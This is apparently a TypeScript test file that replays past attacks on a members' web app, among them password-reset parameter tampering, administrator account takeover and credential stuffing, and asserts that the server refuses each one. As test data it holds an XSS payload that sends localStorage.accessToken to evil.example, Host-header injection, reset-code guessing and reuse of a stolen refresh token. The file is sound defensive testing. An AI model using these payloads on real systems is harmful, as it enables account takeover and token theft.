import { env } from "cloudflare:workers";
import { expect } from "vitest";
import { callJson } from "../support/api-client.ts";
import { advanceClock, createTestItem, leaveOfLimit, readSentPincode, sentMessages } from "../support/factories.ts";
import {
  createAdministratorSession,
  createMemberSession,
  createSession,
  createUser,
  signInUser,
  createSessionWith,
  TEST_PASSWORD,
  type TestUser,
} from "../support/people.ts";
import { requirePresent } from "../support/require-present.ts";
import { addPasskey } from "../calls/second-factor-acts.ts";
import { ATTACKER_ADDRESS, readPasswordHash, type Replay, signInAs } from "./replay.ts";

const NEW_PASSWORD = "Zk7!mQ2x";
const askReset = async (email: string, extra: object = {}, headers: Record<string, string> = {}) =>
  (
    await callJson("POST", "/api/user/reset-password-token", {
      body: { email, ...extra },
      address: ATTACKER_ADDRESS,
      headers,
    })
  ).data.userToken as string;
const reset = (body: object) => callJson("POST", "/api/user/reset-password", { body, address: ATTACKER_ADDRESS });

export const tamperedRecovery: Replay = {
  name: "parameter tampering in password recovery",
  happened:
    "A recovery page sent the member's number in a hidden field. An attacker asked for a code to their own address, changed the number and set any member's password.",
  stopped:
    "The server stores the person behind the token, with the hash of the code sent to that person's address; body and path cannot change it. Five wrong codes end a token.",
  async play({ refuse, holds }) {
    const victim = await createUser({ userType: "Admin", userName: "김관리" });
    const thief = await createSession();
    const before = await readPasswordHash(victim);
    const named = { userId: victim.id, id: victim.id, userKeyCode: victim.userId, email: victim.email };

    const own = await askReset(thief.user.email, { ...named, email: thief.user.email });
    const ownCode = await readSentPincode(thief.user.email);
    const theirs = await askReset(victim.email);
    const swapped = await reset({ ...named, userToken: theirs, pincode: ownCode, password: NEW_PASSWORD });
    refuse("the victim's token with the attacker's code", swapped, "PINCODE_MISMATCH");
    const made = await reset({ ...named, userToken: `${own}x`, pincode: ownCode, password: NEW_PASSWORD });
    refuse("a changed token", made, "PINCODE_EXPIRED");
    const done = await reset({ ...named, userToken: own, pincode: ownCode, password: NEW_PASSWORD });
    holds(
      "the victim's number with the attacker's token and code",
      "changes the attacker's password alone",
      done.code,
      "SUCCESS",
    );
    expect((await signInAs(thief.user.userId, NEW_PASSWORD)).code).toBe("SUCCESS");

    const { accessToken: token } = await signInByPassword(thief.user, NEW_PASSWORD);
    const change = { currentPassword: NEW_PASSWORD, newPassword: "Qw8!rT5z", password: NEW_PASSWORD };
    for (const [act, path] of [
      ["the victim's number in the path of the password form", `/api/user/change-password/${victim.id}`],
      ["the victim's number in the path of the address form", `/api/user/change-user-key/${victim.id}`],
    ] as const) {
      const body = { ...change, userKeyType: "Email", userKeyToken: "x" };
      refuse(act, await callJson("POST", path, { token, body }), "NOT_FOUND", "INVALID_INPUT");
    }
    const guesses = [];
    for (let n = 0; n < 8; n += 1)
      guesses.push(
        (await reset({ userToken: theirs, pincode: String(n).padStart(6, "0"), password: NEW_PASSWORD })).code,
      );
    expect(guesses).not.toContain("SUCCESS");
    holds("eight guesses at the code", "four are compared, five with the one above", guesses.slice(4), [
      "PINCODE_EXPIRED",
      "PINCODE_EXPIRED",
      "PINCODE_EXPIRED",
      "PINCODE_EXPIRED",
    ]);
    advanceClock(61_000);
    await askReset(victim.email, {}, { Host: "evil.example", "X-Forwarded-Host": "evil.example" });
    const mailed = await sentMessages(victim.email);
    holds(
      "a recovery that names another host",
      "the message does not name it",
      [mailed.length, mailed.filter(({ body }) => body.includes("evil.example"))],
      [2, []],
    );
    expect(await readPasswordHash(victim)).toBe(before);
    expect((await signInAs(victim.userId, TEST_PASSWORD, "203.0.113.7")).code).toBe("SUCCESS");
  },
};

async function signInByPassword(person: TestUser, password: string): Promise<{ accessToken: string }> {
  const answer = await signInAs(person.userId, password, "203.0.113.8");
  return answer.data as { accessToken: string };
}

export const administratorTakeover: Replay = {
  name: "takeover of an administrator's account",
  happened:
    "A script in a post stole the administrator's session; elsewhere an assistant with a few rights set their own address on the administrator's account, or the password was bought.",
  stopped:
    "Stored texts keep no script, and calls accept no cookie. No one acts on an account with more rights than their own. An administrator's password alone gives a guest's rights, since the second factor is required. A used refresh token ends its session.",
  async play({ refuse, holds }) {
    const vars = { ...env, SECOND_FACTOR: "required" as const };
    const admin = await createAdministratorSession();
    await addPasskey(admin);
    const member = await createMemberSession();
    const script = `<p>안내</p><script>fetch("//evil.example/"+localStorage.accessToken)</script><img src="x" onerror="alert(1)"><a href="javascript:alert(1)">열기</a>`;
    const itemNo = await createTestItem(member, "free", { content: script });
    const shown = (await callJson("GET", `/api/board-item/free/${itemNo}`, { token: admin.accessToken })).data.content;
    holds("a script in a post", "the text is stored without it", /script|onerror|javascript:|evil/.test(shown), false);

    const body = { roleCode: "administrator", ids: [member.user.id] };
    const byCookie = await callJson("POST", "/api/admin/member/role", { cookie: admin.accessToken, body });
    refuse("a form of another site, with the administrator's cookie", byCookie, "UNAUTHORIZED");

    const assistant = await createSessionWith(["ADMIN_Access"], { userName: "도우미" });
    const { accessToken: token } = assistant;
    const path = `/api/admin/member/${admin.user.id}`;
    const email = { email: "mine@evil.example", reason: "변경", version: 1 };
    refuse(
      "another address for the administrator's account",
      await callJson("PATCH", `${path}/email`, { token, body: email }),
      "FORBIDDEN",
    );
    refuse("a reset link for it", await callJson("POST", `${path}/reset-link`, { token, body: {} }), "FORBIDDEN");
    refuse(
      "a recovery of its second factor",
      await callJson("POST", `/api/admin/second-factor/${admin.user.id}/recovery`, { token, body: { reason: "분실" } }),
      "FORBIDDEN",
    );
    const promoted = { ids: [assistant.user.id], roleCode: "administrator", reason: "승진" };
    refuse(
      "the administrator's role for the assistant",
      await callJson("POST", "/api/admin/member/role", { token, body: promoted }),
      "FORBIDDEN",
      "INVALID_INPUT",
      "CONFLICT",
    );

    const bought = await signInUser(admin.user);
    for (const [act, method, call] of [
      ["the list of members with the bought password", "GET", "/api/admin/member"],
      ["an export with it", "POST", "/api/alumni/export-data"],
      ["a passkey of the attacker with it", "POST", "/api/second-factor/passkey-options"],
    ] as const) {
      const asked = method === "GET" ? {} : { body: { filter: {}, format: "csv", reason: "확인" } };
      refuse(
        act,
        await callJson(method, call, { token: bought.accessToken, vars, ...asked }),
        "FORBIDDEN",
        "UNAUTHORIZED",
      );
    }

    const refresh = (refreshToken: string) =>
      callJson("POST", "/api/user/signin-by-refresh-token", { body: { refreshToken } });
    const renewed = (await refresh(admin.refreshToken)).data as { accessToken: string };
    advanceClock(11_000);
    refuse(
      "a refresh token that was stolen and used before",
      await refresh(admin.refreshToken),
      "UNAUTHORIZED",
      "INVALID_CREDENTIAL",
      "SESSION_EXPIRED",
    );
    const after = await callJson("GET", "/api/admin/member", { token: renewed.accessToken });
    refuse("the session it was stolen from", after, "UNAUTHORIZED");
    const { results } = await env.DB.prepare("SELECT user_type, role_code FROM user WHERE id IN (?, ?)")
      .bind(assistant.user.id, member.user.id)
      .all<{ user_type: string; role_code: string }>();
    expect(
      results.filter(({ user_type, role_code }) => user_type === "Admin" || role_code === "administrator"),
    ).toEqual([]);
  },
};

export const stuffedSignin: Replay = {
  name: "a stuffed sign-in",
  happened:
    "Addresses and passwords leaked from other sites were tried, one try an account, until some worked; points and personal data were stolen.",
  stopped:
    "Failures are counted by network address and leave each account three tries there; unknown accounts have their own limit. A right password passes, because an address is often a hospital; an administrator's password alone opens nothing, and an owner gets a message about ten failures.",
  async play({ refuse, holds }) {
    const admin = await createAdministratorSession();
    await addPasskey(admin);
    const reused = await createUser({ userName: "재사용" });
    await leaveOfLimit(20, "signinFailureAddress", ATTACKER_ADDRESS);
    await leaveOfLimit(40, "lookupAddress", "198.51.100.67");
    const people = [];
    for (let n = 0; n < 21; n += 1) people.push(await createUser());
    const [one, last] = [requirePresent(people[0]), requirePresent(people[20])];
    const codes = [];
    for (const person of people.slice(0, 20)) codes.push((await signInAs(person.userId, "Leaked!234")).code);
    expect(codes).toEqual(Array(20).fill("INVALID_CREDENTIAL"));
    for (let n = 0; n < 3; n += 1) await signInAs(last.userId, `Leaked!${n}`);
    refuse(
      "the fourth try of one account after twenty others, the rest of the address's limit",
      await signInAs(last.userId, "Leaked!234"),
      "TOO_MANY_REQUESTS",
    );
    const unknown = [];
    for (let n = 0; n < 41; n += 1) unknown.push((await signInAs(`leaked${n}`, "Leaked!234", "198.51.100.67")).code);
    holds(
      "41 unknown accounts from another address",
      "forty are answered, the rest of the limit, then 429",
      [unknown.filter((code) => code === "NOT_FOUND").length, unknown.at(-1)],
      [40, "TOO_MANY_REQUESTS"],
    );
    holds(
      "the owner, at home",
      "signs in",
      (await signInAs(reused.userId, TEST_PASSWORD, "203.0.113.20")).code,
      "SUCCESS",
    );
    const bought = (await signInAs(admin.user.userId, TEST_PASSWORD, "203.0.113.21")).data;
    holds(
      "the administrator's right password",
      "a session that still asks for the second factor",
      bought.secondFactor,
      "pending",
    );
    refuse(
      "the member list with that session",
      await callJson("GET", "/api/admin/member", { token: bought.accessToken }),
      "FORBIDDEN",
    );
    for (let n = 0; n < 9; n += 1) await signInAs(one.userId, "Leaked!234", `198.51.101.${n}`);
    const told = (await sentMessages(one.email)).length;
    holds("ten failures of one account from many addresses", "one message to its owner", told, 1);
  },
};
